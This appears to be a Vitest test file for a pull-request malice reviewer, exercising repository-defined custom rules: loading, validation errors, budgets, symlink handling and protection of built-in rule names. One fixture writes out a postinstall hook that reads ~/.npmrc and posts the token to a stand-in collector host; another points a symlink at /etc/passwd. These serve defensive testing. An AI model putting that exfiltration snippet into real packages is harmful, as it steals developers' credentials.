import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ReviewLimits } from "../../../src/model/review-request.ts";
import type { Review } from "../../../src/model/review.ts";
import { loadKnowledge } from "../../../src/review/knowledge.ts";
import { review } from "../../../src/review/review.ts";
import { commitId, memoryCommits, type MemoryTree } from "../../fakes/memory-commits.ts";

const knowledge = await loadKnowledge(join(import.meta.dirname, "..", "..", ".."));

const FOLDER = ".github/rules";
const RULE = `id: house/forbidden-module
title: Uses the module that this house forbids
axis: malice
severity: medium
confidence: medium
match: { path: "forbidden" }
message: "{path} uses what is forbidden here."
why: It was decided so.
normal: There is no such time.
do: Ask the owners first.
`;
const EXAMPLES = { "examples/flagged.js": "1;\n", "examples/clean.js": "2;\n" };

/** A rule's files as they stand in the default branch. */
function ruleAt(folder: string, text: string): MemoryTree {
  const files = { "rule.yml": text, ...EXAMPLES };
  return Object.fromEntries(
    Object.entries(files).map(([name, content]) => [`${FOLDER}/${folder}/${name}`, content]),
  );
}

async function reviewWith(
  ours: MemoryTree,
  head: MemoryTree = { "forbidden.js": "1;\n" },
  base: MemoryTree = {},
): Promise<Review> {
  const [before, after, tip] = [commitId("a"), commitId("b"), commitId("c")];
  const commits = memoryCommits({ [before]: base, [after]: head, [tip]: ours });
  const request = {
    mergeBases: [before],
    head: after,
    text: { title: "", body: "", branch: "", commitMessages: [] },
    limits: ReviewLimits.parse({}),
    customRules: { commit: tip, folders: [FOLDER] },
  };
  return review(commits, request, knowledge);
}

describe("rules of the repository", () => {
  it("add findings beside our own", async () => {
    const answer = await reviewWith(ruleAt("house/forbidden-module", RULE));
    expect(answer.findings.map(({ rule, path }) => [rule, path])).toEqual([
      ["house/forbidden-module", "forbidden.js"],
    ]);
    expect([answer.verdict, answer.complete]).toEqual(["suspicious", true]);
  });

  it("count as they are in the default branch, whatever the change does to them", async () => {
    const ours = ruleAt("house/forbidden-module", RULE);
    const head = { ...ruleAt("house/forbidden-module", RULE.replace('forbidden"', 'never"')) };
    const answer = await reviewWith(ours, { ...head, "forbidden.js": "1;\n" }, ours);
    expect(answer.findings.map(({ rule }) => rule)).toContain("house/forbidden-module");
  });

  it("cannot take the name of one of ours, or silence it", async () => {
    const own = RULE.replace("house/forbidden-module", "credentials/read-and-send");
    const stealing =
      'const fs = require("fs");\nconst token = fs.readFileSync(process.env.HOME + "/.npmrc", "utf8");\n' +
      'fetch("https://collector.example.invalid/", { method: "POST", body: token });\n';
    const head = { "package.json": '{"scripts":{"postinstall":"node a.js"}}', "a.js": stealing };
    const answer = await reviewWith(ruleAt("credentials/read-and-send", own), head);
    expect(answer.verdict).toBe("malicious");
    expect(answer.complete).toBe(false);
    expect(answer.unanalysed[0]?.reason).toContain("there is a rule credentials/read-and-send");
  });

  const wrong: [string, string, MemoryTree, string, RegExp][] = [
    [
      "an unknown key",
      "axes: malice\n",
      {},
      "rule.yml",
      /^line 11, column 1: .*did you mean `axis`/,
    ],
    ["a pattern that is not RE2", "", {}, "rule.yml", /^line 6, column 16: .*RE2.*look-around/],
    ["no clean example", "", {}, "rule.yml", /no clean example: put one at examples\/clean/],
    ["malice it cannot be sure of", "", {}, "rule.yml", /^line 5, column 13: .*chain of evidence/],
  ];
  it.each(wrong)(
    "are refused with line and what would be right: %s",
    async (what, more, _, file, says) => {
      const text = {
        "a pattern that is not RE2": RULE.replace('"forbidden"', '"(?!forbidden)"'),
        "malice it cannot be sure of": RULE.replace("confidence: medium", "confidence: high"),
      }[what];
      const ours = ruleAt("house/forbidden-module", (text ?? RULE) + more);
      if (what === "no clean example")
        delete ours[`${FOLDER}/house/forbidden-module/examples/clean.js`];
      const answer = await reviewWith(ours);
      expect(answer.findings).toEqual([]);
      expect(answer.complete).toBe(false);
      expect(answer.unanalysed[0]?.path).toBe(`${FOLDER}/house/forbidden-module/${file}`);
      expect(answer.unanalysed[0]?.reason).toMatch(says);
    },
  );

  it("are looked for where the policy says, and missed when they are not there", async () => {
    const answer = await reviewWith({ "elsewhere/rule.yml": RULE });
    expect(answer.unanalysed.map(({ path }) => path)).toEqual([FOLDER]);
    expect(answer.unanalysed[0]?.reason).toContain("<this folder>/<family>/<name>/rule.yml");
  });

  it("are no way out of the tree: a link is not followed", async () => {
    const ours = ruleAt("house/forbidden-module", RULE);
    ours[`${FOLDER}/house/forbidden-module/rule.yml`] = { content: "/etc/passwd", mode: "120000" };
    const answer = await reviewWith(ours);
    expect(answer.unanalysed[0]?.reason).toContain("regular file");
  });

  it.each(["[", "- ", "{a: "])(
    "are read without harm when they are nested deeply: %s",
    async (open) => {
      const answer = await reviewWith(ruleAt("house/forbidden-module", open.repeat(4000)));
      expect(answer.complete).toBe(false);
      expect(answer.verdict).toBe("clean");
    },
  );

  it("keep to their budget of rules, bytes, patterns and findings", async () => {
    const many = Array.from({ length: 101 }, (_, i) =>
      ruleAt(`house/r${i}`, RULE.replace("house/forbidden-module", `house/r${i}`)),
    );
    const rules = await reviewWith(Object.assign({}, ...many) as MemoryTree); // trees in one
    expect(rules.findings).toHaveLength(100);
    expect(rules.unanalysed[0]?.reason).toContain("100 rules are the most");

    const long = await reviewWith(ruleAt("house/long", RULE + "#".repeat(17_000)));
    expect(long.unanalysed[0]?.reason).toContain("at most 16384 bytes");

    const files = Array.from({ length: 201 }, (_, i): [string, string] => [
      `forbidden${i}.js`,
      "1;\n",
    ]);
    const found = await reviewWith(
      ruleAt("house/forbidden-module", RULE),
      Object.fromEntries(files),
    );
    expect(found.findings).toHaveLength(200);
    expect(found.unanalysed[0]?.reason).toContain("more than 200");
  });
});
